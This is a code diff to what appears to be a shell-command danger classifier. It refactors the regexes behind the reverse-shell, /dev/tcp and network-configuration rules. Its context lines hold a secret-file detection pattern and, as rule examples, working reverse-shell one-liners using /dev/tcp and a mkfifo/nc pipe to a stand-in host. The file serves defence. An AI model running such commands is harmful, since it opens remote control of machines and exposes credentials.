@@ -16,6 +16,8 @@ _SECRET_TEXT = re.compile(
     r"|\.git-credentials|\.kube/config|\.docker/config\.json|\.pgpass|\.vault-token|(?:^|[\s=@/])\.env\b"
     r"|\.(?:pem|key|p12|pfx|kdbx)\b|\.bash_history|/proc/\S{1,12}/environ|\bprintenv\b|(?:^|[|;]\s{0,4})env\s{0,4}(?:\||$)"
 )
+_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/")
+_NET_CHANGE = re.compile(r"\b(?:add|del|delete|set|flush|down|up|change|replace|apply|connect|modify)\b")
 _IDENTITY = re.compile(r"(?:^|\s)-i\s{1,4}\S+|IdentityFile[= ]\S+|--key[= ]\S+|--cert[= ]\S+|-e\s{1,4}['\"]?ssh\b[^'\"]{0,200}")
 _REMOTE = re.compile(r"^[\w.-]{1,64}@[\w.-]{1,253}:|^[\w-]{1,64}(?:\.[\w-]{1,63}){1,6}:|^(?:s3|gs|az|remote|sftp|ftp|https?)://|^\w{1,32}:")
 
@@ -49,7 +51,7 @@ RULES = [
          counter=["socket -v a.example 80"]),
     rule("net.reverse-shell-devtcp", CATASTROPHIC, "net exec", "a shell's input and output are wired to a network socket",
          names="sh bash zsh dash ksh", tier=IRREVERSIBLE,
-         test=lambda c: any(re.match(r"/dev/(?:tcp|udp)/", r.target) or (r.target.startswith("&$") and c.name == "zsh")
+         test=lambda c: any(_DEV_TCP.match(r.target) or (r.target.startswith("&$") and c.name == "zsh")
                             for r in c.redirects),
          examples=["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"], counter=["bash -c 'echo hi'"]),
     rule("net.reverse-shell-raw", CATASTROPHIC, "net exec", "a script wires a shell to a network connection",
@@ -60,7 +62,7 @@ RULES = [
                    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc a.example 1 >/tmp/f"],
          counter=["zsh -c 'echo hi'"]),
     rule("net.dev-tcp", DANGEROUS, "net", "opens a raw network connection through /dev/tcp", tier=IRREVERSIBLE, scope="redirect",
-         test=lambda c: any(re.match(r"/dev/(?:tcp|udp)/", r.target) for r in c.redirects),
+         test=lambda c: any(_DEV_TCP.match(r.target) for r in c.redirects),
          examples=["echo hi > /dev/tcp/a.example/80"], counter=["echo hi > /dev/null"]),
     rule("net.listener", DANGEROUS, "net", "listens for incoming network connections", names="nc ncat netcat socat fzf",
          tier=IRREVERSIBLE, args=r"(?:^|\s)-\w{0,4}l\w{0,4}(?:\s|$)|--listen|tcp-listen|udp-listen",
@@ -109,7 +111,7 @@ RULES = [
          examples=["iptables -F", "ufw disable"], counter=["iptables -L -n"]),
     rule("net.config", DANGEROUS, "net", "changes network interfaces, routes or DNS settings",
          names="ip ifconfig route nmcli netplan resolvectl networksetup",
-         test=lambda c: bool(re.search(r"\b(?:add|del|delete|set|flush|down|up|change|replace|apply|connect|modify)\b", c.text)),
+         test=lambda c: bool(_NET_CHANGE.search(c.text)),
          examples=["ip link set eth0 down", "ifconfig eth0 down"], counter=["ip addr"]),
     rule("net.proxy-launch", DANGEROUS, "net evasion", "routes a command through Tor or a proxy chain",
          names="torsocks proxychains proxychains4 tor", examples=["tor"], counter=["ls"]),
